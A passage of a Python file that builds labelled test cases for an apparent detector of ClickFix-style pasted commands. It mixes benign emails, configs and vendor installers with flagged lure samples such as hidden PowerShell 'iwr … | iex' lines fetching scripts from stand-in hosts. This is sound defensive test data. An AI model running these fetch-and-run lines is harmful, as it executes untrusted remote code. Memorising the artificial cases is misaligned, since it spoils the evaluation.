        "Đơn hàng 33019 của bạn đã được giao cho đơn vị vận chuyển. Mọi thắc mắc xin gọi tổng đài 1900 5555 01.",
    ),
    (
        "outlook",
        "Pesanan Anda #77123 telah dikirim. Hubungi layanan pelanggan kami di 021-555-0100 jika ada pertanyaan.",
    ),
    (
        "outlook",
        "Hello Sam, your laptop is ready for pickup at the IT bar (2nd floor) from 10:00. Bring your old charger. Questions: ext. 4100.",
    ),
    (
        "outlook",
        "Dear customer, your electricity bill for November (EUR 84.20) is available in your online account. It will be debited on 15 December. No action needed.",
    ),
    (
        "outlook",
        "Your Harrowfield Bank card ending 4412 was used for EUR 23.50 at Café Nord. If you don't recognise this, freeze the card in the app.",
    ),
    (
        "outlook",
        "Liebe Kolleginnen und Kollegen, ab Montag gilt die Zwei-Faktor-Anmeldung für das VPN. Die Anleitung finden Sie im Intranet unter IT > VPN. Bei Problemen: Hotline 4100.",
    ),
    (
        "outlook",
        "Hola equipo: el lunes cambiamos la contraseña de la wifi de invitados. La nueva estará en la recepción. Cualquier duda, extensión 4100.",
    ),
    (
        "outlook",
        "Ciao a tutti, la stampante del secondo piano è stata sostituita. Per installarla seguite la guida sul portale IT; per problemi aprite un ticket.",
    ),
    (
        "outlook",
        "Olá pessoal, o sistema de ponto ficará indisponível no sábado das 8h às 12h para manutenção. Dúvidas: ramal 4100.",
    ),
    (
        "outlook",
        "Beste collega's, vanaf maandag werkt het nieuwe printsysteem. Handleiding staat op het intranet. Vragen? Bel de servicedesk, toestel 4100.",
    ),
    (
        "outlook",
        "Szanowni Państwo, w sobotę w godz. 8-12 nastąpi przerwa serwisowa systemu ERP. W razie pytań prosimy o kontakt z działem IT, wew. 4100.",
    ),
    (
        "outlook",
        "Değerli çalışma arkadaşlarımız, cumartesi günü 08:00-12:00 arasında e-posta sunucusunda bakım yapılacaktır. Sorularınız için dahili 4100.",
    ),
    (
        "outlook",
        "Коллеги, в субботу с 8 до 12 будут проводиться работы на почтовом сервере. Вопросы — в техподдержку, доб. 4100.",
    ),
    (
        "outlook",
        "各位、土曜日の8時から12時までメールサーバーのメンテナンスを行います。ご不明点はヘルプデスク（内線4100）まで。",
    ),
    (
        "outlook",
        "各位同事：本周六8:00-12:00进行邮件服务器维护，期间邮件可能延迟。如有问题请联系IT服务台，分机4100。",
    ),
    (
        "outlook",
        "الزملاء الأعزاء، ستتم صيانة خادم البريد يوم السبت من الساعة 8 حتى 12. للاستفسار يرجى الاتصال بقسم تقنية المعلومات تحويلة 4100.",
    ),
    (
        "outlook",
        "Your return for order 88123 has been received. A refund of $45.99 will be issued to your original payment method within 5-7 business days.",
    ),
    (
        "outlook",
        "Votre remboursement de 32,90 € pour la commande 55120 a été effectué sur votre carte. Aucune action n'est nécessaire.",
    ),
    (
        "outlook",
        "Ihre Rücksendung ist eingegangen. Die Erstattung über 59,99 € erfolgt auf Ihr ursprüngliches Zahlungsmittel.",
    ),
    (
        "outlook",
        "Your Zoom meeting starts in 15 minutes: https://us02web.zoom.us/j/85555012345?pwd=abc. Dial-in: +1 555 0100, meeting ID 855 5501 2345.",
    ),
    (
        "outlook",
        "Il suo volo AZ 1234 del 12/12 è confermato. Gestisca la prenotazione online o chiami il numero 06 5555 0100.",
    ),
]

SWEEP_OAUTH += [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code FJ9XK2LMN to authenticate.",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "POST https://github.com/login/device/code\nclient_id=Iv1.8a61f9b3a7aba766&scope=repo",
    ),
    (
        "https://developer.spotify.com/documentation/web-api/tutorials/code-flow",
        "https://accounts.spotify.com/authorize?response_type=code&client_id=CLIENT_ID&scope=user-read-private&redirect_uri=http://127.0.0.1:8888/callback&state=xyz",
    ),
    (
        "https://developer.atlassian.com/cloud/jira/platform/oauth-2-3lo-apps/",
        "https://auth.atlassian.com/authorize?audience=api.atlassian.com&client_id=YOUR_CLIENT_ID&scope=read%3Ajira-work&redirect_uri=https://your-app.example/callback&state=YOUR_USER_BOUND_VALUE&response_type=code&prompt=consent",
    ),
    (
        "https://api.slack.com/authentication/oauth-v2",
        "curl -F code=1234 -F client_id=3336676.569200954261 -F client_secret=ABCDEFGH https://slack.com/api/oauth.v2.access",
    ),
    (
        "https://developer.okta.com/docs/guides/sign-into-web-app-redirect/",
        "okta.oauth2.issuer=https://dev-133337.okta.com/oauth2/default\nokta.oauth2.client-id=0oab8eb55Kb9jdMIr5d6\nokta.oauth2.redirect-uri=/login/oauth2/code/okta",
    ),
    (
        "https://github.com/harrowfield/cli/blob/main/docs/login.md",
        "$ harrowfield login\nOpening https://auth.harrowfield.example/device in your browser...\nEnter the code: WDJB-MJHT",
    ),
    (
        "https://learn.microsoft.com/en-us/graph/auth-v2-service",
        "curl -X POST https://login.microsoftonline.com/<tenant>/oauth2/v2.0/token -d 'client_id=<app-id>&scope=https%3A%2F%2Fgraph.microsoft.com%2F.default&client_secret=<secret>&grant_type=client_credentials'",
    ),
]

SWEEP_RUNBOX += [
    "mmc gpedit.msc",
    "control printers",
    "explorer /select,C:\\Users\\me\\Downloads\\report.pdf",
    "taskmgr /7",
    "eventvwr /c:System",
    "perfmon /rel",
    "ping -t 10.0.0.1",
    "tracert -d fs01.corp.example",
    "cmd /k ipconfig /all",
    "gpupdate /force",
    "outlook /safe",
    "excel /safe",
    "winword /safe",
    "shutdown /r /t 0",
    "\\\\fs01\\it\\install",
    "%windir%\\system32\\control.exe /name Microsoft.Troubleshooting",
    "ncpa.cpl",
    "appwiz.cpl",
    "mmsys.cpl",
    "compmgmt.msc",
    "services.msc",
    "lusrmgr.msc",
    "diskmgmt.msc",
    "taskschd.msc",
    "regedit",
    "dxdiag",
    "mdsched",
    "msconfig",
    "charmap",
    "magnify",
]
SWEEP_EXPLORER += [
    "C:\\Users\\Public\\Desktop",
    "%USERPROFILE%\\AppData\\Local\\Temp",
    "\\\\fs01.corp.local\\dept\\HR\\Policies",
    "shell:AppsFolder",
    "shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
    "Control Panel\\Programs\\Programs and Features",
    "D:\\Projects\\website\\dist",
    "%APPDATA%\\Code\\User",
]

SWEEP_CONFIG += [
    (
        "https://github.com/harrowfield/win-agent/blob/main/Dockerfile",
        'FROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN Install-WindowsFeature Web-Server\nCOPY site/ C:/inetpub/wwwroot/',
    ),
    (
        "https://github.com/quillmere/py-worker/blob/main/Dockerfile",
        'FROM python:3.12-slim\nCOPY --from=ghcr.io/astral-sh/uv:0.5 /uv /bin/uv\nWORKDIR /app\nCOPY pyproject.toml uv.lock ./\nRUN uv sync --frozen --no-dev\nCOPY . .\nCMD ["uv", "run", "worker.py"]',
    ),
    (
        "https://github.com/harrowfield/ruby-app/blob/main/Dockerfile",
        'FROM ruby:3.3\nWORKDIR /app\nCOPY Gemfile Gemfile.lock ./\nRUN bundle install --jobs 4\nCOPY . .\nEXPOSE 3000\nCMD ["bin/rails", "server", "-b", "0.0.0.0"]',
    ),
    (
        "https://github.com/quillmere/rust-api/blob/main/.github/workflows/ci.yml",
        "- uses: dtolnay/rust-toolchain@stable\n- uses: Swatinem/rust-cache@v2\n- run: cargo clippy --all-targets -- -D warnings\n- run: cargo test",
    ),
    (
        "https://github.com/harrowfield/infra/blob/main/.github/workflows/terraform.yml",
        "- uses: hashicorp/setup-terraform@v3\n- run: terraform init -input=false\n- run: terraform plan -out=tfplan -input=false",
    ),
    (
        "https://github.com/quillmere/site/blob/main/netlify.toml",
        '[build]\n  command = "npm run build"\n  publish = "dist"\n[[redirects]]\n  from = "/*"\n  to = "/index.html"\n  status = 200',
    ),
    (
        "https://github.com/harrowfield/api/blob/main/Procfile",
        "web: gunicorn app:app --workers 3 --bind 0.0.0.0:$PORT\nworker: celery -A tasks worker --loglevel=info",
    ),
    (
        "https://github.com/quillmere/mono/blob/main/Makefile",
        "install:\n\tpython -m pip install -e '.[dev]'\ntest:\n\tpytest -q\nlint:\n\truff check . && mypy src",
    ),
    (
        "https://github.com/harrowfield/svc/blob/main/deploy/systemd/svc.service",
        "[Unit]\nDescription=Harrowfield service\nAfter=network-online.target\n[Service]\nExecStart=/opt/svc/bin/svc --config /etc/svc/config.yaml\nRestart=on-failure\nUser=svc\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://learn.microsoft.com/en-us/iis/",
        "2025-12-04 08:21:13 10.0.1.15 GET /login.aspx - 443 - 198.51.100.33 Mozilla/5.0+(Windows+NT+10.0) 200 0 0 41",
    ),
    (
        "https://docs.fluentbit.io/manual/",
        "[INPUT]\n    Name tail\n    Path /var/log/nginx/access.log\n[OUTPUT]\n    Name  es\n    Match *\n    Host  10.0.2.15\n    Port  9200",
    ),
    (
        "https://github.com/harrowfield/web/blob/main/.htaccess",
        "RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]",
    ),
]

SWEEP_MDM += [
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/common-exclusion-mistakes-microsoft-defender-antivirus",
        'Add-MpPreference -ExclusionPath "D:\\SQLData\\" -ExclusionExtension ".mdf",".ldf"',
    ),
    (
        "https://docs.sentinelone.com/",
        "SentinelCtl.exe status\nSentinelCtl.exe config -p agent.version",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/mde-linux-exclusions",
        "sudo mdatp exclusion folder add --path /var/lib/docker/overlay2\nsudo mdatp exclusion list",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/mac-exclusions",
        "mdatp exclusion file add --path /Users/Shared/BuildCache/cache.db",
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/apps/app-configuration-policies-use-android",
        "Get-IntuneManagedDevice -Filter \"operatingSystem eq 'Windows'\" | Select-Object deviceName, complianceState, lastSyncDateTime",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/windows-autopatch/",
        "Get-WindowsUpdateLog -LogPath C:\\Temp\\WindowsUpdate.log",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/run-analyzer-windows",
        "MDEClientAnalyzer.cmd -r -t",
    ),
    (
        "https://docs.crowdstrike.com/",
        "Exclusion pattern: C:\\Program Files\\Veeam\\**\\*.exe\nApplied to: Sensor visibility, ML prevention\nReason: backup jobs read every file",
    ),
]

SWEEP_WRITEUPS += [
    (
        "https://intranet.harrowfield.example/soc/runbook/clickfix",
        "Runbook: suspected ClickFix paste\n1. Pull RunMRU from the host (reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU).\n2. Check proxy logs for the defanged domain in the ticket.\n3. If a script ran, isolate the host in Defender and open a P2.",
    ),
    (
        "https://intranet.quillmere.example/soc/ioc/2025-12",
        "IOC list 2025-12 (defanged)\nhxxps://captcha-pass[.]example/v\nhxxps://cdn-check[.]example/a.txt\n203.0.113[.]15\n198.51.100[.]80",
    ),
    (
        "https://www.huntress.com/blog/",
        "We saw the same operator swap mshta for a conhost --headless chain in late November; the RunMRU entries still ended with a fake 'reCAPTCHA Verification ID'.",
    ),
    (
        "https://www.elastic.co/security-labs",
        "Our detection keys on explorer.exe as the parent of powershell.exe with a command line longer than 200 characters, which legitimate Run box use rarely produces.",
    ),
]

# a defanged sample in parentheses pasted where it would run, or with a live address in them
WRITEUP_LOOKALIKES = [
    (
        "Stage 1 was a one-liner copied by the page (iwr | iex from hxxp://198.51.100[.]7/a.ps1); stage 2 dropped a RAT.",
        TERMINAL,
    ),
    (
        "Stage 1 was a one-liner copied by the page (iwr https://files.umbra-stage.test/a.ps1 | iex); stage 2 dropped a RAT.",
        UNKNOWN,
    ),
    (
        "(iwr hxxps://files[.]kestrel-drop[.]test/a.ps1 | iex)\nThat is what the page copied.",
        TERMINAL,
    ),
    (
        "Verify you are human (powershell -w h -c iwr https://files.kestrel-drop.test/a.ps1|iex)",
        RUN,
    ),
]


# vendors' own install pages giving msiexec or a download of their installer from their own
# download hosts (the page's domain, or a publisher's documented host)
VENDOR_DOCS_INSTALLERS = [
    (
        "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0064484",
        "msiexec /i https://zoom.us/client/latest/ZoomInstallerFull.msi /quiet /qn /norestart",
    ),
    (
        "https://support.google.com/chrome/a/answer/7650032",
        "msiexec /i https://dl.google.com/edgedl/chrome/install/GoogleChromeStandaloneEnterprise64.msi /qn",
    ),
    (
        "https://www.7-zip.org/download.html",
        "msiexec /i https://www.7-zip.org/a/7z2408-x64.msi /qn",
    ),
    (
        "https://nodejs.org/en/download",
        "msiexec /i https://nodejs.org/dist/v22.12.0/node-v22.12.0-x64.msi /qn",
    ),
    (
        "https://documentation.wazuh.com/current/installation-guide/wazuh-agent/wazuh-agent-package-windows.html",
        'Invoke-WebRequest -Uri https://packages.wazuh.com/4.x/windows/wazuh-agent-4.9.2-1.msi -OutFile $env:tmp\\wazuh-agent; msiexec.exe /i $env:tmp\\wazuh-agent /q WAZUH_MANAGER="10.0.0.2"',
    ),
    (
        "https://docs.newrelic.com/docs/infrastructure/install-infrastructure-agent/windows-installation/install-infrastructure-monitoring-agent-windows/",
        'msiexec.exe /qn /i https://download.newrelic.com/infrastructure_agent/windows/newrelic-infra.msi GENERATE_CONFIG=true LICENSE_KEY="YOUR_LICENSE_KEY"',
    ),
    (
        "https://tailscale.com/kb/1189/install-windows-msi",
        "msiexec /i https://pkgs.tailscale.com/stable/tailscale-setup-latest-amd64.msi /quiet TS_UNATTENDEDMODE=always",
    ),
    (
        "https://osquery.io/downloads/official/5.14.1",
        "msiexec /i https://pkg.osquery.io/windows/osquery-5.14.1.msi /qn",
    ),
    (
        "https://www.zabbix.com/documentation/current/en/manual/installation/install_from_packages/win_msi",
        "msiexec /l*v log.txt /i https://cdn.zabbix.com/zabbix/binaries/stable/7.0/7.0.6/zabbix_agent2-7.0.6-windows-amd64-openssl.msi /qn SERVER=10.0.0.5",
    ),
    (
        "https://docs.aws.amazon.com/systems-manager/latest/userguide/manually-install-ssm-agent-windows.html",
        'Invoke-WebRequest https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/windows_amd64/AmazonSSMAgentSetup.exe -OutFile $env:USERPROFILE\\Desktop\\SSMAgent_latest.exe\nStart-Process -FilePath $env:USERPROFILE\\Desktop\\SSMAgent_latest.exe -ArgumentList "/S"',
    ),
    (
        "https://docs.aws.amazon.com/AmazonCloudWatch/latest/monitoring/download-cloudwatch-agent-commandline.html",
        "msiexec /i https://s3.amazonaws.com/amazoncloudwatch-agent/windows/amd64/latest/amazon-cloudwatch-agent.msi",
    ),
    (
        "https://jumpcloud.com/support/install-the-agent-on-windows",
        'msiexec /i https://cdn02.jumpcloud.com/production/jcagent-msi-signed.msi /quiet JCINSTALLERARGUMENTS="-k <CONNECT_KEY> /VERYSILENT /NORESTART"',
    ),
    (
        "https://openvpn.net/connect-docs/installation-guide-windows.html",
        "msiexec /i https://swupdate.openvpn.net/downloads/connect/openvpn-connect-3.5.1.3946_signed.msi /qn",
    ),
    (
        "https://www.puppet.com/docs/puppet/8/install_agents",
        "msiexec /qn /norestart /i https://downloads.puppetlabs.com/windows/puppet8/puppet-agent-x64-latest.msi PUPPET_SERVER=puppet.corp.example",
    ),
    (
        "https://docs.aws.amazon.com/corretto/latest/corretto-21-ug/windows-install.html",
        "msiexec /i https://corretto.aws/downloads/latest/amazon-corretto-21-x64-windows-jdk.msi /qn",
    ),
    (
        "https://www.mongodb.com/docs/manual/tutorial/install-mongodb-on-windows/",
        "curl -fsSL https://fastdl.mongodb.org/windows/mongodb-windows-x86_64-8.0.3-signed.msi -o mongodb.msi",
    ),
    (
        "https://slack.com/help/articles/212475728-Deploy-Slack-via-Microsoft-Installer",
        "msiexec /i https://downloads.slack-edge.com/desktop-releases/windows/x64/4.41.105/slack-standalone-4.41.105.0.msi /qn",
    ),
    (
        "https://developers.cloudflare.com/cloudflare-one/connections/connect-devices/warp/deployment/mdm-deployment/",
        'msiexec /i "https://1111-releases.cloudflareclient.com/win/latest" /qn ORGANIZATION="harrowfield" SERVICE_MODE="warp"',
    ),
    (
        "https://docs.gitlab.com/runner/install/windows.html",
        "Invoke-WebRequest -Uri https://gitlab-runner-downloads.s3.amazonaws.com/latest/binaries/gitlab-runner-windows-amd64.exe -OutFile C:\\GitLab-Runner\\gitlab-runner.exe",
    ),
    (
        "https://duo.com/docs/rdp",
        'msiexec /i https://dl.duosecurity.com/duo-win-login-latest.msi /qn IKEY="DIXXXXXXXXXXXXXXXXXX" HOST="api-xxxxxxxx.duosecurity.com"',
    ),
]


def sweep(book: Book) -> None:
    for i, (page, text) in enumerate(SWEEP_QUOTED_INSTALLERS):
        book.add("other-readme-installer", text, "not_flagged", "any", TERMINAL, page)
        if i % 4 == 1:
            book.add("other-readme-installer", text, "not_flagged", "any", UNKNOWN, page)
    for i, (page, text) in enumerate(SWEEP_ADMIN):
        book.add("vendor-admin", text, "not_flagged", "any", TERMINAL, page)
        if i % 3 == 1:
            book.add("vendor-admin", text, "not_flagged", "any", UNKNOWN, None)
    for i, (page, text) in enumerate(SWEEP_CONSOLE):
        book.add("console-snippet", text, "not_flagged", "any", CONSOLE, page)
        if i % 3 == 1:
            book.add("console-snippet", text, "not_flagged", "any", UNKNOWN, None)
    for i, (page, text) in enumerate(SWEEP_WRITEUPS):
        book.add("writeup-quoting-lure", text, "not_flagged", "any", (UNKNOWN, OTHER)[i % 2], page)
    for i, (app, text) in enumerate(SWEEP_MAILS):
        book.add("support-mail", text, "not_flagged", "any", (OTHER, UNKNOWN)[i % 2], app)
    for i, (page, text) in enumerate(SWEEP_OAUTH):
        book.add("oauth-docs", text, "not_flagged", "any", (UNKNOWN, TERMINAL, OTHER)[i % 3], page)
    for text in SWEEP_RUNBOX:
        book.add("run-box-everyday", text, "not_flagged", "windows", RUN, None)
    for text in SWEEP_EXPLORER:
        book.add("explorer-bar-everyday", text, "not_flagged", "windows", BAR, None)
    for i, (page, text) in enumerate(SWEEP_CONFIG):
        book.add(
            "config-ci-snippet", text, "not_flagged", "any", (UNKNOWN, OTHER, TERMINAL)[i % 3], page
        )
    for i, (page, text) in enumerate(SWEEP_MDM):
        book.add(
            "mdm-edr-admin", text, "not_flagged", "windows", (TERMINAL, UNKNOWN, OTHER)[i % 3], page
        )
    for page, text in VENDOR_DOCS_INSTALLERS:
        book.add("vendor-docs-installer", text, "not_flagged", "windows", TERMINAL, page)
    for text, target in WRITEUP_LOOKALIKES:
        book.add(
            "writeup-quoting-lure",
            text,
            "flagged",
            "any",
            target,
            "https://news.kestrel-drop.test/a",
        )


LEFT = {
    # another page's `curl … | sh` (or a download then `sh`) of a tool whose host is neither
    # the page's nor on the trust list: a warning by design (issue 9); design17 weighs the class
    "fp17-ok-other-readme-installer-54": "github.com owner not the page's, pipe to shell",
    "fp17-ok-other-readme-installer-60": "unknown host pipe to shell (dagster)",
    "fp17-ok-other-readme-installer-65": "unknown host download then sh (elixir)",
    "fp17-ok-other-readme-installer-80": "github.com owner not the page's, pipe to shell",
    # a vendor's docs page and its installer on another domain or a bucket of the company's
    # (slack.com -> slack-edge.com, cloudflare.com -> cloudflareclient.com, duo.com ->
    # duosecurity.com, docs.gitlab.com -> a bucket named gitlab-…): the names are joined to
    # another word or the page is a forge's, which is how look-alike hosts are built; kept
    "fp17-ok-vendor-docs-installer-17": "slack-edge.com from slack.com",
    "fp17-ok-vendor-docs-installer-18": "cloudflareclient.com from cloudflare.com",
    "fp17-ok-vendor-docs-installer-19": "a gitlab-named bucket from docs.gitlab.com (imitation)",
    "fp17-ok-vendor-docs-installer-20": "duosecurity.com from duo.com",
    # "Pasted: powershell -w h -c \"…\"": an order followed by a command on one line, as a lure's
    # instructions are written (fpsweep16 left the same shape)
    "fp17-ok-writeup-quoting-lure-27": "key then command on one line",
    # a write-up that quotes the lure's fake check words: the disguise is the lure's wherever
    # it stands (fpsweep16 left the same)
    "fp17-ok-writeup-quoting-lure-35": "fake check words quoted",
}


def build() -> list[dict[str, str]]:
    book = Book("fp17")
    detection(book)
    run_typed(book)
    helpdesk(book)
    vendor_bucket(book)
    sweep(book)
    seen = texts_in([*EARLIER, *sorted(DEV.glob("*.jsonl"))])
    return [c for c in book.cases if c["id"] not in LEFT and c["text"] not in seen]


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
